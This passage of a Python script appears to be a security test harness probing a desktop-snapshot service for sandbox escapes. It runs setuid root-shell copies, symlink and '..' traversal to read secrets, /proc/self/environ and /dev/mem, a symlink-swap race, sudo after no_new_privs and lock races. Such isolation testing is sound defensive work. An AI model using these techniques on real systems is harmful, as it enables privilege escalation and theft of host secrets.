    farm.as_root_inside("sh", "-c", SUID_COPY)
    farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")
    for top in (store, farm.socket.parent, farm.runtime):
        for folder, _, names in os.walk(top, onerror=print):
            for name in names:
                if name == "rootsh":
                    subprocess.run([f"{folder}/{name}", "-p", "-c", f"id -u > {attacker.proof}"], check=False)
    for entry in store.iterdir():
        for action in (
            os.listdir,
            os.rmdir,
            lambda path: os.chmod(path, 0o777),
            lambda path: os.rename(path, f"{path}.x"),
        ):
            try:
                print(entry, action(entry))
            except OSError as error:
                print(error)


@attempt
def link_from_inside_leads_out(attacker: Attacker) -> None:
    """Leave links to the host's files where root works on a desktop's own: its roots, mounts, and saved files."""
    farm = attacker.farm()
    farm.desktop()
    targets = " ".join(f"/tmp/l{number}" for number in range(3))
    farm.as_root_inside(
        "sh",
        "-c",
        f"for t in {targets}; do ln -s {attacker.victim} $t; done; mv /dev/shm /dev/old; ln -s / /dev/shm; "
        f"rm -rf /etc/resolv.conf; ln -s {attacker.victim} /etc/resolv.conf; ln -sf / /usr/lib/x",
    )
    for number in range(2):
        farm.ask("checkpoint", desktop_id="d1", snapshot_id=f"s{number}")
        farm.ask("restore", desktop_id="d1", snapshot_id=f"s{number}")
    farm.ask("quarantine", snapshot_id="s1")
    farm.ask("delete_snapshot", snapshot_id="s0")
    farm.ask("reap", keep=[])


@attempt
def facts_of_another_desktop_or_the_host(attacker: Attacker) -> None:
    """Ask the verbs that read a desktop's files from outside for the secret, by its path, by links and by `..`."""
    farm = attacker.farm()
    farm.desktop()
    farm.as_root_inside(
        "sh", "-c", f"ln -s {attacker.secret} /home/user/l; ln -s /proc/1/root /home/user/r; ln -s / /home/user/s"
    )
    up = "/.." * 30
    secret = str(attacker.secret)
    paths = [secret, f"/home/user/l{up}{secret}", "/home/user/l", f"/home/user/r{secret}", f"/home/user/s{up}{secret}"]
    paths += [f"{up}{secret}", f"/proc/1/root{secret}", f"/proc/self/root{secret}", "/proc/self/environ", "/dev/mem"]
    for path in paths:
        queries: list[dict[str, object]] = [{"kind": "file", "path": path, "limit_nbytes": 1000}]
        queries.append({"kind": "stat", "path": path, "follow": True})
        farm.ask("evidence", desktop_id="d1", queries=queries)
    tree = {"kind": "tree", "max_entries": 50, "max_depth": 3, "digests": False}
    folder = attacker.secret.parent
    for path in (str(folder), f"/home/user/r{folder}", f"/home/user/s{up}{folder}"):
        farm.ask("evidence", desktop_id="d1", queries=[{**tree, "path": path}])
    swap = "rm -rf /home/user/a; mkdir /home/user/a; rm -rf /home/user/a; ln -s / /home/user/a"
    farm.as_root_inside("sh", "-c", f"while true; do {swap}; done", detach=True)
    file = {"kind": "file", "path": f"/home/user/a{up}{secret}", "limit_nbytes": 1000}
    for _ in range(20):
        farm.ask("evidence", desktop_id="d1", queries=[file])


@attempt
def server_gives_up_and_takes_back(attacker: Attacker) -> None:
    """Run sudo, a setuid program and a program with capabilities from a process that has given up new privileges."""

    def give_up() -> None:
        ctypes.CDLL(None).prctl(38, 1, 0, 0, 0)

    for words in (["sudo", "-n", *attacker.starter], ["sudo", "-n", "-l"], ["su", "-c", "id"], ["passwd", "-S"]):
        print(
            subprocess.run(
                words,
                preexec_fn=give_up,
                stdin=subprocess.DEVNULL,
                capture_output=True,
                text=True,
                check=False,
                timeout=20,
            )
        )


@attempt
def many_helpers_at_once(attacker: Attacker) -> None:
    """Start many helpers for one runtime directory and for others at once, to find one that works without its lock."""
    runtime = attacker.home / "r"
    threads = [threading.Thread(target=attacker.farm, kwargs={"runtime": runtime}) for _ in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(sum(bool(farm.reply.get("socket")) for farm in attacker.farms), "of", len(attacker.farms))
    for farm in attacker.farms:
        if farm.reply.get("socket"):
            farm.desktop()


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
